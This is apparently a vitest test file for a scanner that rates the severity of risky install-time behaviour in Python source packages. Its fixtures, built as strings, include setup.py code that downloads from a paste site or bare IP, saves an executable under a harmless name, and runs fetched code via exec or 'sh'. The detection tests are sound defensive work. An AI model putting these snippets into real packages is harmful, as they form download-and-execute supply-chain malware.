import { expect, test } from 'vitest';
import type { Rule } from '../../../src/core/rule.js';
import downloadThenRun from '../../../src/rules/download-then-run.js';
import dropHostContact from '../../../src/rules/drop-host-contact.js';
import networkAtInstall from '../../../src/rules/network-at-install.js';
import processAtInstall from '../../../src/rules/process-at-install.js';
import { analysedSdist, startIn, type Files } from './trees.js';

async function severities(files: Files, rules: Readonly<Record<string, Rule>>): Promise<readonly string[]> {
  const { findings } = await analysedSdist(files, rules);
  return findings.map(({ severity }) => severity);
}

const fetching = (address: string, rest = ''): string => `import urllib.request\n${rest}reply = urllib.request.urlopen(${address}).read()\n`;
const kept = (address: string, path: string): string => `${fetching(address)}with open(${path}, "wb") as f:\n    f.write(reply)\n`;

test.each([
  ['an address put together at run time', fetching('where()'), 'critical'],
  ['an unknown host', fetching('"https://example.org/x"'), 'critical'],
  ['a well-known host', fetching('"https://github.com/a/b"'), 'medium'],
  ['a file that it keeps', kept('where()', '"data.css"'), 'medium'],
  ['a module that it keeps', kept('where()', '"garden/x.py"'), 'critical'],
  ['a program that it keeps under another name', kept('"https://example.org/x.exe"', '"data.css"'), 'critical'],
  ['a file over plain http', kept('"http://example.org/x"', '"data.css"'), 'critical'],
  ['a file from a bare address', kept('"https://8.8.8.8/x"', '"data.css"'), 'critical'],
  ['a file beside which something unknown is started', `${kept('where()', '"data.css"')}import os\nos.system(go())\n`, 'critical'],
  ['a file beside which a compiler is started', `${kept('where()', '"data.css"')}import os\nos.system("gcc x.c")\n`, 'medium'],
])('setup.py that fetches %s', async (_, setup, severity) => {
  expect(await severities({ 'setup.py': setup }, { networkAtInstall })).toEqual([severity]);
});

const helper = (body: string): Files => ({ 'setup.py': 'import helper\nif asked():\n    helper.go()\n', 'helper.py': `import os, socket, urllib.request\ndef go():\n    ${body}\n` });

test.each([
  ['fetches', 'urllib.request.urlopen(where())', 'medium'],
  ['fetches from a drop host', 'urllib.request.urlopen("https://pastebin.com/raw/x")', 'critical'],
  ['starts a program', 'os.system("something --else")', 'low'],
  ['runs what it fetched', 'exec(urllib.request.urlopen(where()).read())', 'critical'],
])('a function of another module that setup.py calls and that %s', async (_, body, severity) => {
  const found = await severities(helper(body), { networkAtInstall, dropHostContact, processAtInstall, downloadThenRun });
  expect(found[0]).toBe(severity);
});

test('what another module fetches as soon as it is imported weighs as much as in setup.py', async () => {
  expect(await severities({ 'setup.py': 'import helper\n', 'helper.py': fetching('where()') }, { networkAtInstall })).toEqual(['critical']);
});

test.each([
  ['unpacks', '["tar", "xf", name]', []],
  ['runs by a shell', '["sh", name]', ['critical']],
  ['unpacks and runs', '"tar xf " + name + " && sh x/run"', ['critical']],
])('setup.py that %s what it fetched', async (_, command, found) => {
  const setup = `import subprocess, urllib.request\nname = where()\nurllib.request.urlretrieve("https://example.org/x", name)\nsubprocess.call(${command}, shell=True)\n`;
  expect(await severities({ 'setup.py': setup }, { downloadThenRun })).toEqual(found);
});

test('a module that a build takes its version from is not started by it, whoever else calls its functions', async () => {
  const files = {
    'setup.py': 'from setuptools import setup\nsetup()\n',
    'setup.cfg': '[metadata]\nversion = attr: helper.__version__\n[options]\npy_modules = helper\n',
    'helper.py': `__version__ = "1"\n${startIn('main')}if __name__ == "__main__":\n    main()\n`,
    'test_helper.py': 'import helper\ndef test_it():\n    helper.main("x")\n',
  };
  expect((await analysedSdist(files, { processAtInstall })).findings).toEqual([]);
});
